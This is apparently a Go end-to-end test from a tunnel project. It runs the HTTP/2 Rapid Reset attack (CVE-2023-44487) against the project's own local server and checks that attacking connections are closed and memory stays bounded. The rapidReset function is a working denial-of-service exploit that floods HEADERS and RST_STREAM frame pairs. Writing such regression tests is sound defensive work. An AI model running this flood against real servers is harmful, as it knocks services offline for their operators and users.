package e2e

import (
	"bufio"
	"context"
	"crypto/tls"
	"net"
	"os"
	"strconv"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
	"golang.org/x/net/http2"

	"github.com/quictun/quictun/internal/testutil"
)

// rss is the resident set of the process pid, from /proc.
func rss(pid int) (int64, bool) {
	b, err := os.ReadFile("/proc/" + strconv.Itoa(pid) + "/status")
	if err != nil {
		return 0, false
	}
	for line := range strings.SplitSeq(string(b), "\n") {
		if f := strings.Fields(line); len(f) >= 2 && f[0] == "VmRSS:" {
			kb, err := strconv.ParseInt(f[1], 10, 64)
			return kb << 10, err == nil
		}
	}
	return 0, false
}

// peakRSS samples pid's RSS every 100 ms until stop is closed and returns its
// first and its highest figure.
func peakRSS(pid int, stop <-chan struct{}) (first int64, peak <-chan int64) {
	first, _ = rss(pid)
	out := make(chan int64, 1)
	go func() {
		top := first
		tick := time.NewTicker(100 * time.Millisecond)
		defer tick.Stop()
		for {
			if v, ok := rss(pid); ok {
				top = max(top, v)
			}
			select {
			case <-stop:
				out <- top
				return
			case <-tick.C:
			}
		}
	}()
	return first, out
}

// rapidReset is CVE-2023-44487 against the server's TCP listener, by a peer
// without credentials, from the local address src: TLS (no verification, as
// an attacker would), the HTTP/2 preface, 15 streams that send nothing (they
// hold the server's pre-authentication slots, so it accepts no more), then
// HEADERS+RST_STREAM pairs until ctx ends or the server closes the
// connection. It reports the pairs sent, whether the TLS handshake
// completed, and whether the server closed the connection.
func rapidReset(ctx context.Context, addr, src string) (pairs int, connected, closed bool) {
	d := net.Dialer{LocalAddr: &net.TCPAddr{IP: net.ParseIP(src)}, Timeout: 5 * time.Second}
	nc, err := d.DialContext(ctx, "tcp", addr)
	if err != nil {
		return 0, false, false
	}
	defer func() { _ = nc.Close() }()
	tc := tls.Client(nc, &tls.Config{InsecureSkipVerify: true, NextProtos: []string{"h2"}, MinVersion: tls.VersionTLS13}) //nolint:gosec // the attacker verifies nothing
	hctx, cancel := context.WithTimeout(ctx, 5*time.Second)
	defer cancel()
	if tc.HandshakeContext(hctx) != nil {
		return 0, false, false
	}
	gone := make(chan struct{})
	var byServer atomic.Bool
	go func() {
		defer close(gone)
		rd := http2.NewFramer(nil, tc)
		for {
			if _, err := rd.ReadFrame(); err != nil {
				byServer.Store(ctx.Err() == nil)
				return
			}
		}
	}()
	stop := context.AfterFunc(ctx, func() { _ = tc.SetDeadline(time.Unix(1, 0)) })
	defer stop()
	bw := bufio.NewWriterSize(tc, 64<<10)
	fr := http2.NewFramer(bw, nil)
	block := []byte{0x83, 0x87, 0x84}
	_, _ = bw.WriteString(http2.ClientPreface)
	_ = fr.WriteSettings()
	id := uint32(1)
	for range 15 {
		_ = fr.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: block, EndHeaders: true})
		id += 2
	}
	for ctx.Err() == nil && id < 1<<31-2 {
		if fr.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: block, EndHeaders: true}) != nil ||
			fr.WriteRSTStream(id, http2.ErrCodeCancel) != nil {
			break
		}
		id += 2
		pairs++
		if pairs%64 == 0 && bw.Flush() != nil {
			break
		}
	}
	_ = tc.SetDeadline(time.Unix(1, 0)) // the reader too, if the server did not end it
	<-gone
	return pairs, true, byServer.Load()
}

// TestTCPRapidResetWithoutCredentials: the HTTP/2 rapid reset against the
// TCP fallback by peers without the secret (issue 30 R1). One connection for
// up to 10 s, then 64 connections from 8 addresses while a client does
// ping-pong through the tunnel. Each attacking connection is closed by the
// server (GOAWAY ENHANCE_YOUR_CALM) and the server's memory stays bounded:
// before the accounting fix one connection grew it by about a gigabyte.
func TestTCPRapidResetWithoutCredentials(t *testing.T) {
	if testing.Short() {
		t.Skip("a 20 s attack")
	}
	checkLeaks(t)
	echo := testutil.EchoServer(t)
	srv := startServer(t, serverOpts{Allow: []string{"tcp:" + echo}})
	cl := startClient(t, srv, clientOpts{Token: "tcp:" + echo})
	pid := srv.cmd.Process.Pid
	// The race detector's shadow memory multiplies a heap's size.
	factor := int64(1)
	if raceEnabled {
		factor = 8
	}

	stop := make(chan struct{})
	base, peak := peakRSS(pid, stop)
	ctx, cancel := context.WithTimeout(context.Background(), 10*time.Second)
	start := time.Now()
	pairs, connected, closed := rapidReset(ctx, srv.Addr, "127.0.0.2")
	took := time.Since(start)
	cancel()
	close(stop)
	grown := <-peak - base
	require.True(t, connected, "the attacker's TLS handshake")
	assert.True(t, closed, "the server closed the attacking connection")
	assert.Less(t, grown, factor*32<<20, "server RSS growth, one connection")
	waitMetric(t, srv, 10*time.Second, ge(1), "quictun_server_connections_total", "result", "flood")
	t.Logf("one connection: %d HEADERS+RST_STREAM pairs in %v, closed %v; server RSS %d MiB -> peak +%.1f MiB",
		pairs, took.Round(time.Millisecond), closed, base>>20, float64(grown)/(1<<20))

	before, r := probe(t, cl.Addr, 1000)
	require.Equal(t, 0, r.code, r.stderr)
	stop = make(chan struct{})
	base, peak = peakRSS(pid, stop)
	ctx, cancel = context.WithTimeout(context.Background(), 10*time.Second)
	defer cancel()
	var wg sync.WaitGroup
	var nConnected, nClosed, nPairs atomic.Int64
	for i := range 64 {
		wg.Go(func() {
			p, conn, cl := rapidReset(ctx, srv.Addr, "127.0.0."+strconv.Itoa(2+i%8))
			nPairs.Add(int64(p))
			if conn {
				nConnected.Add(1)
			}
			if cl {
				nClosed.Add(1)
			}
		})
	}
	during, r := probe(t, cl.Addr, 3000)
	wg.Wait()
	close(stop)
	grown = <-peak - base
	assert.Equal(t, 0, r.code, "probe during the attack: %s", r.stderr)
	assert.Zero(t, during.Errors, during.ErrorMessages)
	assert.Equal(t, nConnected.Load(), nClosed.Load(), "every attacking connection that got through TLS was closed")
	assert.Less(t, grown, factor*256<<20, "server RSS growth, 64 connections")
	assert.False(t, srv.exited(), "server died")
	require.NoError(t, echoVia(t, cl.Addr, "still here"))
	t.Logf("64 connections from 8 addresses: %d through TLS, %d closed by the server, %d pairs; server RSS %d MiB -> peak +%.1f MiB; "+
		"client ping-pong p50 %.3f -> %.3f ms (x%.2f), p99 %.3f -> %.3f ms (x%.2f)",
		nConnected.Load(), nClosed.Load(), nPairs.Load(), base>>20, float64(grown)/(1<<20),
		before.P50MS, during.P50MS, during.P50MS/before.P50MS, before.P99MS, during.P99MS, during.P99MS/before.P99MS)
}
